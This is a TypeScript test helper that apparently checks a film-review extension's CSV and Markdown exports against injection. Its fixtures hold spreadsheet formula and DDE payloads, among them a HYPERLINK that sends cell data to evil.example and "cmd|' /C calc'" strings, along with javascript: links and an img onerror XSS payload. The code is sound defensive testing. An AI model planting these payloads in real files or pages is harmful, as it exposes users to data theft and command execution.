/**
 * Issue 13's export attacks, shared by the Chromium and the Firefox attack
 * files: review pages whose own words (film title, director, post title)
 * carry spreadsheet formulas and Markdown links and images, the reviews the
 * reader writes on them (beginning with "@" and "- ", with `javascript:`
 * links and a remote image pasted in), and what the two exports must make
 * of them. The attack files drive the browsers; this says what counts.
 */
import Papa from 'papaparse';
import { expect } from 'vitest';

export interface ExportAttack {
  path: string;
  film: string;
  director: string;
  postTitle: string;
  /** What the reader types as their review of that page's film. */
  note: string;
}

/** The payloads, with `pixel` standing for a remote image (a tracking pixel). */
export function exportAttacks(pixel: string): ExportAttack[] {
  return [
    {
      path: '/attack/formula-1.html',
      film: '=HYPERLINK("http://evil.example/?"&A1,"Her")',
      director: "@SUM(1+1)*cmd|' /C calc'!A0",
      postTitle: `[watch now](javascript:alert(1)) ![](${pixel}) review`,
      // The reader's own review: it begins with "@" and must reach Letterboxd unchanged.
      note: `@amigo tenías razón\n[x](javascript&#58;alert(1)) [y][evil] ![pixel](${pixel})\n\n[evil]: javascript:alert(1)`,
    },
    {
      path: '/attack/formula-2.html',
      film: "+cmd|' /C calc'!A0",
      director: "-2+3+cmd|' /C calc'!A0",
      postTitle: '<img src=x onerror=alert(1)> review',
      note: '- a list, as I write them\n=1+1 is mine too',
    },
  ];
}

/** A review page saying, in its structured data and its heading, what the attack puts there. */
export function attackPage(a: ExportAttack): string {
  const ld = {
    '@context': 'https://schema.org',
    '@type': 'Review',
    name: a.postTitle,
    itemReviewed: { '@type': 'Movie', name: a.film, dateCreated: '2013-12-18', director: { '@type': 'Person', name: a.director } },
    reviewRating: { '@type': 'Rating', ratingValue: 4, bestRating: 5 },
    author: { '@type': 'Person', name: 'A Critic' },
  };
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${esc(a.postTitle)}</title>
<script type="application/ld+json">${JSON.stringify(ld).replace(/</g, '\\u003c')}</script></head>
<body><article><h1 class="entry-title">${esc(a.postTitle)}</h1><div class="entry-content">
<p>${esc(a.film)} is a film directed by ${esc(a.director)}, and this film review says what the critic thought of the story, the acting and the score.</p>
<p>My rating: 4 out of 5 stars. This review contains spoilers about the ending of the film.</p>
</div></article></body></html>`;
}

/** The Letterboxd CSV: the page's words neutralised with a leading ', the reader's reviews exactly as typed. */
export function expectSafeCsv(csv: string, attacks: ExportAttack[]): void {
  const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
  for (const a of attacks) {
    const row = rows.find((r) => r.Review === a.note);
    expect(row, `a row with the review ${JSON.stringify(a.note)}`).toBeDefined();
    expect(row!.Title).toBe(`'${a.film}`);
    expect(row!.Directors).toBe(`'${a.director}`);
  }
  // No cell from a page starts a formula.
  for (const r of rows) for (const key of ['Title', 'Directors']) expect(r[key]).not.toMatch(/^[=+\-@\t\r]/);
}

/** The Markdown: no live javascript: link, no image (the pixel is a link to it), the page's markup escaped. */
export function expectSafeMarkdown(md: string, pixel: string): void {
  // Every inline or reference link to javascript: is escaped (\[ … \]), so no unescaped "](" or "]:" leads to it.
  expect(md).not.toMatch(/(?<!\\)\]\(\s*<?\s*javascript/i);
  expect(md).not.toMatch(/^\s*(?<!\\)\[[^\]]*(?<!\\)\]:\s*javascript/im);
  // No image at all: the remote pixel is written as a link to it, fetched only if the reader follows it.
  expect(md).not.toMatch(/(?<!\\)!\[/);
  expect(md).toContain(`[pixel](<${pixel}>)`);
  // The page's own text (its post title) is text: its link, image and HTML are escaped.
  expect(md).toContain('\\[watch now\\](javascript\\:alert(1))');
  expect(md).toContain('\\<img src=x onerror=alert(1)\\>');
  expect(md).not.toMatch(/(?<!\\)<img/);
  // And the reader's words are there.
  expect(md).toContain('tenías razón');
}
